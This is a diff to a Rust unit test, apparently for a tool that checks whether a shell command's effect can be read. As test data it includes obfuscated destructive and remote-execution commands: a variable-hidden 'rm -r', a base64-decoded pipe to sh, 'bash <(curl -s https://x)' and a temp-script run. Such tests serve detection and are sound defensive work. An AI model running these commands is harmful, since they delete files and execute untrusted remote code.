@@ -542,8 +542,13 @@ fn hidden_commands_are_read_as_plain_ones() {
 #[test]
 fn what_cannot_be_read_is_named() {
     let reasons = |cmd: &str| opacity::find(cmd, &parse(cmd), false);
+    // A constant program name is read as the program (`src/shell/constants.rs`).
+    assert_eq!(
+        argvs("c=rm; \"$c\" -r ~/w").last(),
+        Some(&v(&["rm", "-r", "~/w"]))
+    );
     for cmd in [
-        "c=rm; \"$c\" -r ~/w",
+        "c=$(which rm); \"$c\" -r ~/w",
         "echo cm0= | base64 -d | sh",
         "bash <(curl -s https://x)",
         "echo x > /tmp/s.sh; sh /tmp/s.sh",
